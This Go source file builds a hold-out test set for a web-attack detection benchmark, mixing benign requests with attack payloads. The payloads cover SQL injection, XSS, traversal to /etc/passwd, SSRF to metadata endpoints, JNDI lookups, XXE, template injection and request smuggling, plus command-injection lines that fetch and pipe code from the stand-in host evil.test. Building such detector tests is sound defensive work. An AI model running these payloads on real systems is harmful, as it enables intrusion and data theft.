package detectbench

import (
	"fmt"
	"math/rand/v2"
	"net/url"
)

// The hold-out set was written after the rules were tuned on the main
// corpus. Its first (blind) run scored 94.6% of attacks at block
// confidence with 17.5% benign false positives; a few generic fixes
// prompted by its misses followed (code-fence backticks, more CRLF header
// names, Latin-1 truncation characters, SELECT subqueries, Twig filters,
// per-segment path inspection, '+' in cookies), so it is no longer blind.
// New payloads belong in a fresh hold-out file, not here.
const holdoutPath = "testdata/holdout.jsonl"

var holdoutPayloads = map[string][]string{
	"sqli": {
		"1 AND 1=(SELECT 1 FROM dual WHERE 1=1)", "abc' AND ASCII(SUBSTRING((SELECT TOP 1 name FROM sysusers),1,1))>64--",
		"1' RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))-- x", "x'; EXEC master..xp_dirtree '\\\\evil.test\\a'--",
		"(SELECT CONCAT(0x71,user(),0x71))", "' GROUP BY columnnames having 1=1 --",
		"1 AnD (sElEcT 1 fRoM (sElEcT sLeEp(3))a)", "name' AND 1=CAST((SELECT version()) AS int)--",
		"1 /*!UNION*/ /*!SELECT*/ password FROM admin", "1 OR 'a'='a'",
	},
	"xss": {
		"<img/src/onerror=alert`1`>", "<svg><script>alert&#40;1&#41;</script>", "<a href=\"&#106;avascript:alert(1)\">x</a>",
		"<iframe srcdoc=\"<script>parent.alert(1)</script>\">", "<div style=\"background:url(javascript:alert(1))\">",
		"'-alert(1)-'", "<x onpointerenter=alert(1)>hover", "<form action=javascript:alert(1)><button>go",
		"\"autofocus onfocus=\"alert(1)", "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//",
	},
	"traversal": {
		"/static/..%2f..%2f..%2fetc/group", "..%ef%bc%8f..%ef%bc%8fetc%ef%bc%8fpasswd", "images/../../../../../../etc/issue",
		"%2e%2e/%2e%2e/%2e%2e/proc/self/cmdline", "..\\..\\..\\inetpub\\wwwroot\\web.config", "/..%00/..%00/etc/passwd",
		"static/%252e%252e/%252e%252e/app/config.yml", "../../../../../../../../../../../../etc/hosts", "file:/etc/shadow",
		"../WEB-INF/web.xml",
	},
	"cmdi": {
		"8.8.8.8 | cat /etc/hosts", "test.txt; /usr/bin/id", "$(sleep${IFS}7)", "foo`nslookup evil.test`",
		"a || ping -n 3 127.0.0.1", "x\ncurl evil.test|sh", "report.pdf && wget http://evil.test/s -O /tmp/s",
		"; python3 -c 'import os;os.system(\"id\")'", "| perl -e 'print 1'", "127.0.0.1\n\nuname -a",
	},
	"ssrf": {
		"http://127.0.0.1:2375/containers/json", "http://localhost:9090/-/reload", "http://[0:0:0:0:0:ffff:7f00:1]/",
		"http://0/", "http://017700000001/", "https://169.254.169.254.nip.io/latest/", "http://169.254.170.2/v2/credentials",
		"ftp://10.1.2.3/", "http://0x0a000001/", "http://localhost.localdomain:8500/v1/kv/?recurse",
	},
	"jndi": {
		"${jndi:ldap://evil.test:389/Basic/Command/Base64/aWQ=}", "${${::-j}ndi:rmi://evil.test/x}",
		"${jndi:${lower:r}mi://evil.test/x}", "${${lower:jn}${lower:di}:ld${lower:ap}://evil.test/y}",
		"${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//evil.test/z}",
		"%24%7B%6A%6E%64%69%3A%6C%64%61%70%3A%2F%2Fevil.test%2Fa%7D", "${jndi:nds://evil.test/a}",
		"${ctx:loginId}${jndi:ldap://evil.test/b}", "${${main:\\k5:-Jnd}${main:\\k5:-i}:ldap://evil.test/c}",
		"$%7Bjndi:ldap://evil.test/d%7D",
	},
	"ssti": {
		"{{ 9*9 }}", "${{7*7}}", "{{ ''.__class__.__base__.__subclasses__() }}",
		"{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}", "<%= File.open('/etc/passwd').read %>",
		"#{ 3*3 }", "${@java.lang.Runtime@getRuntime().exec('id')}", "{{['id']|filter('system')}}", "[[${7*7}]]",
		"{{#with \"s\" as |string|}}{{string.sub.apply 0 \"constructor\"}}{{/with}}",
	},
	"crlf": {
		"%0d%0aLocation:%20https://evil.test", "foo%0D%0A%0D%0A%3Cscript%3Ealert(1)%3C/script%3E", "%0ASet-Cookie%3Asession%3Dfixed",
		"x%0d%0a%20X-Admin:%20true", "1.2.3.4%0d%0aX-Real-IP:%2010.0.0.1", "%23%0d%0aLink:%20<https://evil.test>",
		"%c4%8d%c4%8aSet-Cookie:%20x=y", "%%0a0aSet-Cookie:x=1", "%0d%0aContent-Type:%20text/html", "ok%0d%0aVary:%20*",
	},
}

var holdoutXXE = []string{
	`<?xml version="1.0"?><!DOCTYPE r [<!ELEMENT r ANY><!ENTITY sp SYSTEM "http://127.0.0.1:22/">]><r>&sp;</r>`,
	`<!DOCTYPE test [<!ENTITY % a SYSTEM "file:///etc/passwd"><!ENTITY % b "<!ENTITY c SYSTEM 'http://evil.test/?%a;'>">%b;]><t>&c;</t>`,
	`<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://evil.test/x.dtd"><html/>`,
	`<?xml version='1.0'?><!DOCTYPE svg [ <!ENTITY ent SYSTEM 'file:///etc/passwd'> ]><svg>&ent;</svg>`,
	`<?xml version="1.0"?><!DOCTYPE root [<!ENTITY % remote SYSTEM "https://evil.test/oob.dtd">%remote;%init;%trick;]><root/>`,
	`<!DOCTYPE a SYSTEM "file:///dev/random"><a/>`,
	`<?xml version="1.0"?><!DOCTYPE replace [<!ENTITY ent SYSTEM "jar:http://evil.test/a.zip!/b">]><userInfo><firstName>&ent;</firstName></userInfo>`,
	`<!DOCTYPE foo [<!ENTITY % xxe SYSTEM "data://text/plain;base64,PCFFTlRJVFk=">%xxe;]><foo/>`,
	`<?xml version="1.0"?><data xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="http://127.0.0.1/admin"/></data>`,
	`<?xml version="1.0" standalone="no"?><!DOCTYPE cfg [<!ENTITY x SYSTEM "/etc/hostname">]><cfg>&x;</cfg>`,
}

var holdoutNoSQLQuery = []string{"user[$regex]=a.*&user[$options]=i", "age[$gte]=0", "where=this.role%20%3D%3D%20'admin'", "tags[$all][]=x&id[$type]=2"}
var holdoutNoSQLJSON = []string{
	`{"user":"admin","pwd":{"$gt":""}}`, `{"$or":[{"user":"a"},{"user":{"$ne":"b"}}]}`, `{"filter":{"price":{"$lte":0}}}`,
	`{"q":{"$function":{"body":"function(){return true}","args":[],"lang":"js"}}}`, `{"name":"'; while(true){}; var a='"}`,
	`{"session":{"$exists":true}}`,
}
var holdoutNoSQLForm = []string{"login[$eq]=admin&pass[$exists]=1", "user=admin&pass[%24ne]=x", "pin[$nin][]=1234", "code[$regex]=^9"}

func holdoutSmuggling() []smuggle {
	body := "0\r\n\r\nPOST /internal HTTP/1.1\r\nHost: localhost\r\nContent-Length: 5\r\n\r\nx=1"
	return []smuggle{
		{headers: [][2]string{{"Content-Length", "4"}, {"Transfer-Encoding", "cHuNkEd"}}, body: body},
		{headers: [][2]string{{"Transfer-Encoding", "x-gzip, chunked"}}, body: body},
		{headers: [][2]string{{"Transfer-Encoding", "\"chunked\""}}, body: body},
		{headers: [][2]string{{"Transfer-Encoding", "chunked, chunked"}, {"Content-Length", "3"}}, body: body},
		{headers: [][2]string{{"Transfer-Encoding", "chunked\x00"}}, body: body},
		{proto: "HTTP/1.0", headers: [][2]string{{"Content-Length", "3"}, {"Transfer-Encoding", "identity"}}, body: body},
		{headers: [][2]string{{"Content-Length", "1e3"}}, body: body},
		{headers: [][2]string{{"Content-Length", "\uff15"}}, body: body},
		{headers: [][2]string{{"Content-Length", "10"}, {"Content-Length", "010"}, {"Content-Length", "11"}}, body: body},
		{headers: [][2]string{{"Transfer-Encoding", "chunked"}, {"Content-Length", "0"}}, body: body},
	}
}

func holdoutBenign(rng *rand.Rand) []Entry {
	templates := []func() Entry{
		func() Entry {
			return getReq(rng, "/fhir/Patient", url.Values{"family": {pick(rng, lastNames)}, "given": {pick(rng, firstNames)}, "birthdate": {"ge1980-01-01"}})
		},
		func() Entry {
			return jsonReq(rng, "POST", "/api/v1/notes", map[string]any{"text": "Remember: binaries are in /usr/local/bin and config in ~/.config/app", "pinned": true})
		},
		func() Entry {
			return getReq(rng, "/api/v1/geo", url.Values{"lat": {"53.3498"}, "lng": {"-6.2603"}, "radius": {"5km"}})
		},
		func() Entry {
			return getReq(rng, "/search", url.Values{"q": {pick(rng, []string{"c# vs f#", "what's new in go 1.26?", "a|b testing", "rock & roll"})}})
		},
		func() Entry {
			return jsonReq(rng, "PUT", "/api/v1/profile", map[string]any{"website": "https://blog.example.dev", "github": "https://github.com/someone", "handle": "@someone"})
		},
		func() Entry {
			return formReq(rng, "/reviews", url.Values{"comment": {pick(rng, []string{"I <3 this", "5/5 -- would buy again", "meh... it's ok; not great"})}, "rating": {"5"}})
		},
		func() Entry {
			return getReq(rng, "/api/v1/items", url.Values{"ids": {"1,2,3"}, "expand": {"true"}, "price_min": {"10"}, "price_max": {"99.5"}})
		},
		func() Entry {
			return jsonReq(rng, "POST", "/graphql", map[string]any{"query": "mutation { addTodo(text: \"Buy milk & eggs\") { id } }"})
		},
		func() Entry {
			return jsonReq(rng, "POST", "/api/v1/mail", map[string]any{"body": "Hi Sam,\n\nPlease review the PR: https://git.example.com/org/repo/pull/42\n\nThanks!"})
		},
		func() Entry {
			return getReq(rng, "/api/v1/files", url.Values{"path": {"docs/guides/getting-started.md"}})
		},
		func() Entry {
			return jsonReq(rng, "POST", "/api/v1/jobs", map[string]any{"cron": "*/5 * * * *", "command_name": "cleanup", "timeout": "30s"})
		},
		func() Entry {
			return jsonReq(rng, "POST", "/api/v1/templates", map[string]any{"template": "Hello {{name}}, your code is {{code}}"})
		},
		func() Entry {
			return getReq(rng, "/odata/Customers", url.Values{"$filter": {"LastName eq 'Smith'"}, "$top": {"10"}})
		},
		func() Entry {
			return jsonReq(rng, "POST", "/api/v1/posts", map[string]any{"markdown": "# Title\n\n```bash\nnpm run build && npm test\n```"})
		},
		func() Entry { return getReq(rng, "/api/v1/redirect", url.Values{"next": {"/dashboard?tab=billing"}}) },
		func() Entry {
			return jsonReq(rng, "POST", "/api/v1/firewall", map[string]any{"ip_allowlist": []string{"10.0.0.0/8", "192.168.1.0/24"}})
		},
		func() Entry {
			return jsonReq(rng, "POST", "/api/v1/docs", map[string]any{"description": "Use a semicolon; then a pipe | for alternatives", "title": fmt.Sprintf("Doc %d", rng.IntN(100))})
		},
		func() Entry {
			return jsonReq(rng, "POST", "/api/v1/snippets", map[string]any{"language": "sql", "code": "SELECT id, name FROM users WHERE active = true ORDER BY name;"})
		},
		func() Entry {
			return jsonReq(rng, "PUT", "/api/v1/services/web", map[string]any{"health_check_url": "http://localhost:8080/healthz", "replicas": 3})
		},
		func() Entry {
			return getReq(rng, "/api/v1/lookup", url.Values{"title": {pick(rng, []string{"Don't Stop Me Now", "Rock'n'Roll", "L'Oréal", "\"Quoted\" title"})}, "year": {"1978"}})
		},
	}
	var out []Entry
	for i := 0; i < 4; i++ {
		for _, t := range templates {
			out = append(out, t())
		}
	}
	return out
}

func generateHoldout() []Entry {
	rng := rand.New(rand.NewPCG(101, 202))
	var out []Entry
	add := func(class, where string, e Entry) {
		e.Class, e.Where = class, where
		e.ID = fmt.Sprintf("h-%s-%03d", class, countClass(out, class)+1)
		out = append(out, e)
	}
	places := map[string]placement{"query": placeQuery, "json": placeJSON, "form": placeForm, "header": placeHeader, "path": placePath}
	order := []string{"json", "query", "header", "form", "path"}
	for _, class := range []string{"sqli", "xss", "traversal", "cmdi", "ssrf", "jndi", "ssti", "crlf"} {
		for i, p := range holdoutPayloads[class] {
			for k := 0; k < 2; k++ {
				where := order[(i*2+k)%len(order)]
				if class == "ssrf" && where == "path" {
					where = "json"
				}
				add(class, where, places[where](rng, class, p))
			}
		}
	}
	for i, p := range holdoutXXE {
		add("xxe", "body", placeXMLBody(rng, "xxe", p))
		where := []string{"json", "form"}[i%2]
		add("xxe", where, places[where](rng, "xxe", p))
	}
	for _, q := range holdoutNoSQLQuery {
		add("nosqli", "query", Entry{Method: "GET", Path: "/api/v2/accounts", Query: q, Headers: baseHeaders(rng)})
	}
	for _, b := range holdoutNoSQLJSON {
		h := append(baseHeaders(rng), [2]string{"Content-Type", "application/json"}, [2]string{"Content-Length", fmt.Sprint(len(b))})
		add("nosqli", "json", Entry{Method: "POST", Path: "/api/v2/auth", Headers: h, Body: b})
	}
	for _, b := range holdoutNoSQLForm {
		h := append(baseHeaders(rng), [2]string{"Content-Type", "application/x-www-form-urlencoded"}, [2]string{"Content-Length", fmt.Sprint(len(b))})
		add("nosqli", "form", Entry{Method: "POST", Path: "/signin", Headers: h, Body: b})
	}
	for _, s := range holdoutSmuggling() {
		h := [][2]string{{"Host", "api.example.com"}, {"User-Agent", pick(rng, baseUA)}, {"Accept", "*/*"}}
		add("smuggling", "header", Entry{Method: "POST", Path: "/api/v2/checkout", Proto: s.proto, Headers: append(h, s.headers...), Body: s.body})
	}
	for _, e := range holdoutBenign(rng) {
		add(Benign, e.Where, e)
	}
	return out
}
